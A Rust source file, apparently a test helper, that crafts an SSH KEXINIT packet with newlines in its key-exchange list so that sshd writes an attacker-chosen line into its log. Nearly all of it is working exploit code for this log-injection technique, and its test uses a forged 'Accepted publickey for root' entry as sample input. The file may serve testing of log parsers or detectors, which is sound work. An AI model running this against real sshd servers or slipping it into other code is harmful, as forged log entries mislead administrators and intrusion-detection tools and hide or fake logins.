//! The KEX-injection client: what any client may send sshd before authenticating, used to forge
//! a line of sshd's log.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::time::Duration;

/// Sends sshd on 127.0.0.1:`port` an SSH banner and a KEXINIT whose key-exchange name-list is
/// `x`, newline, `line`, newline, `y`. sshd finds no common method and logs "Unable to
/// negotiate … Their offer: " with the list as it came; into an `-E` file the newlines go
/// unescaped, so `line` becomes a line of the log of its own. Returns once sshd hung up (or
/// after 10 s of silence).
pub fn inject_kex_line(port: u16, line: &str) {
    let stream = TcpStream::connect(("127.0.0.1", port)).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_secs(10)))
        .unwrap();
    let mut stream = BufReader::new(stream);
    stream.get_mut().write_all(b"SSH-2.0-kwforge\r\n").unwrap();
    let mut banner = String::new();
    stream.read_line(&mut banner).unwrap();
    assert!(banner.starts_with("SSH-2.0-"), "{banner:?}");
    stream.get_mut().write_all(&kexinit_packet(line)).unwrap();
    // sshd answers with its own KEXINIT and hangs up.
    let mut sink = Vec::new();
    let _ = stream.read_to_end(&mut sink);
}

/// The unencrypted binary packet of a KEXINIT offering `x\n{line}\ny` as its key exchanges.
fn kexinit_packet(line: &str) -> Vec<u8> {
    let name_list = |text: &[u8]| {
        let mut out = u32::try_from(text.len()).unwrap().to_be_bytes().to_vec();
        out.extend_from_slice(text);
        out
    };
    let mut payload = vec![20u8]; // SSH_MSG_KEXINIT
    payload.extend_from_slice(&[7u8; 16]); // cookie
    payload.extend(name_list(format!("x\n{line}\ny").as_bytes()));
    for list in [
        &b"ssh-ed25519"[..],
        b"aes128-ctr",
        b"aes128-ctr",
        b"hmac-sha2-256",
        b"hmac-sha2-256",
        b"none",
        b"none",
        b"",
        b"",
    ] {
        payload.extend(name_list(list));
    }
    payload.push(0); // first_kex_packet_follows
    payload.extend_from_slice(&[0u8; 4]); // reserved
    let mut padding = 8 - (payload.len() + 5) % 8;
    if padding < 4 {
        padding += 8;
    }
    let mut packet = u32::try_from(payload.len() + padding + 1)
        .unwrap()
        .to_be_bytes()
        .to_vec();
    packet.push(u8::try_from(padding).unwrap());
    packet.extend(payload);
    packet.extend(std::iter::repeat_n(0u8, padding));
    packet
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_packet_is_padded_to_a_multiple_of_eight() {
        for line in [
            "",
            "a",
            "Accepted publickey for root from 10.0.0.1 port 1 ssh2",
        ] {
            let packet = kexinit_packet(line);
            assert_eq!(packet.len() % 8, 0, "{line:?}");
            let length = u32::from_be_bytes(packet[..4].try_into().unwrap()) as usize;
            assert_eq!(length + 4, packet.len());
            let padding = packet[4] as usize;
            assert!((4..=255).contains(&padding));
            assert_eq!(packet[5], 20, "SSH_MSG_KEXINIT");
        }
    }
}
